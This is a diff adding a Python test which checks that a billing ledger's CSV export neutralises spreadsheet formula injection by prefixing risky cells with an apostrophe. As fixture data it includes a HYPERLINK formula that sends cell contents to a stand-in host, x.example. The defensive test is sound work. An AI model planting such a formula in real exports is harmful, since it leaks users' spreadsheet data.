@@ -10,6 +10,7 @@ import csv
 import io
 import json
 import os
+import tempfile
 from datetime import UTC, datetime
 from decimal import Decimal
 from pathlib import Path
@@ -26,7 +27,7 @@ from domain.money import Money
 from domain.program import BillableExtra
 from domain.step_inputs import EXTRA_RULES, BillableExtraKind
 from storage import repositories as repo
-from storage.ledger import LEDGER_COLUMNS
+from storage.ledger import LEDGER_COLUMNS, ledger_csv
 from storage.price_import import import_price_list_csv
 from testing.databases import migrated_sessions
 from tests.conftest import free_port
@@ -191,3 +192,27 @@ def test_extras_list_json_gives_one_customers_ledger_lines(run: Cli) -> None:
     assert "acme period 2: 1 extra(s), nothing priced; 1 unpriced" in human.stdout
     refused = run("extras", "list", "ACME Corp")
     assert refused.exit_code == 2 and "is not a customer ID" in refused.stderr
+
+
+def test_a_text_cell_that_a_spreadsheet_would_run_is_exported_as_text() -> None:
+    # A customer types a customisation's agreement reference (C13), ops type descriptions and reasons:
+    # finance opens the file in a spreadsheet, where "=..." would be a formula (CSV injection).
+    extra = _extra(BillableExtraKind.customisation, datetime(2026, 3, 2, tzinfo=UTC), amount="10.00",
+                   reason="@SUM(A1:A9)").model_copy(update={
+                       "agreement_ref": '=HYPERLINK("http://x.example/?"&A1,"AGR")', "description": "-2+3"})
+
+    async def go(url: str) -> str:
+        async with migrated_sessions(url) as sessions:
+            async with sessions() as s, s.begin():
+                await repo.upsert_customer(s, "acme", "Acme", "SMP-acme", now=datetime(2026, 1, 1, tzinfo=UTC))
+            await DatabaseActivities(sessions).record_billable_extra(
+                ExtraRecord(customer_id="acme", period=1, extra=extra, idempotency_key="x:1"))
+            async with sessions() as s:
+                return ledger_csv(await repo.list_billable_extras(s, "acme"))
+
+    with tempfile.TemporaryDirectory() as tmp:
+        text = asyncio.run(go(f"sqlite+aiosqlite:///{Path(tmp) / 'ledger.db'}"))
+    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert row["agreement_ref"] == '\'=HYPERLINK("http://x.example/?"&A1,"AGR")'
+    assert row["description"] == "'-2+3" and row["override_reason"] == "'@SUM(A1:A9)"
+    assert row["amount"] == "10.00" and row["customer_id"] == "acme"  # numbers and plain text unchanged
